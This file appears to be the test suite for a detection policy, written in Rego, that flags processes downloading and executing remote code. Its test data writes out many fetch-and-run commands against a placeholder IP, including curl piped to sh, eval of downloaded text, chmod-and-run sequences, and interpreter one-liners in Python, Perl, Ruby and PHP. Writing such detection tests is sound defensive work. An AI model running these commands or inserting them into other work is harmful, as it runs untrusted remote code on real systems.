package hasp.policies.process.download_executed_test

import data.hasp.policies.process.download_executed
import data.hasp.testing

found(subject) := violations if {
	violations := download_executed.violations with input as subject
}

test_finds_it[command] if {
	some command in [
		"curl -fsSL http://203.0.113.5/x | sh",
		"wget -qO- http://203.0.113.5/x|bash -s",
		"aria2c x | python3",
		"bash <(curl -s http://203.0.113.5/x)",
		"zsh <(curl -s http://203.0.113.5/x)",
		"source <(curl -s x)",
		". <(curl -s x)",
		"eval $(curl -s x)",
		"eval \"$(curl -s x)\"",
		"eval `wget -qO- x`",
		"sh -c $(curl -s x)",
		"sh -c \"$(curl -fsSL x)\"",
		"curl -o /tmp/x http://203.0.113.5/x; chmod +x /tmp/x; /tmp/x",
		"wget x; chmod 777 x",
		"wget x; chmod a+x x",
		"wget x; chmod u+x x",
		"wget x; chmod 0755 x",
		"lwp-download x; chmod -R 777 x",
	]
	count(found(testing.script(command))) == 1
}

test_finds_interpreters_that_need_no_client[program] if {
	some program, arguments in {
		"python3": ["python3", "-c", "import urllib.request as u; exec(u.urlopen('http://203.0.113.5/x').read())"],
		"python": ["python", "-c", "import requests; eval(requests.get('https://203.0.113.5/x').text)"],
		"perl": ["perl", "-e", "use LWP::Simple; eval get('http://203.0.113.5/x')"],
		"ruby": ["ruby", "-e", "require 'open-uri'; system(URI.open('http://203.0.113.5/x').read)"],
		"php": ["php", "-r", "eval(file_get_contents('http://203.0.113.5/x'));"],
	}
	subject := testing.exec(testing.process(9, $"/usr/bin/{program}", arguments), [])
	testing.paths(found(subject)) == {"/event/process/args"}
}

test_leaves_interpreters_alone[why] if {
	some why, arguments in {
		"a probe": ["python3", "-c", "import urllib.request as u; u.urlopen('http://127.0.0.1/health')"],
		"runs what it holds": ["python3", "-c", "exec('print(1)')"],
		"reads a file": ["php", "-r", "eval(file_get_contents('/app/x.php'));"],
		"a script of its own": ["python3", "/app/urlopen(http://exec("],
	}
	found(testing.exec(testing.process(9, $"/usr/bin/{arguments[0]}", arguments), [])) == set()
}

test_leaves_others[command] if {
	some command in [
		"curl -s http://x | jq .",
		"curl -s http://x | shasum",
		"echo x | sh",
		"curl -o x http://x; chmod 600 x",
	]
	count(found(testing.script(command))) == 0
}

test_leaves_what_is_ordinary if {
	command := testing.script("curl -s x | sh")
	found(testing.at_start(command)) == set()
	found(testing.of_image(command, "cimg/base")) == set()
}

test_points_at_the_arguments if {
	testing.paths(found(testing.script("curl -fsSL http://203.0.113.5/x | sh"))) == {"/event/process/args"}
}
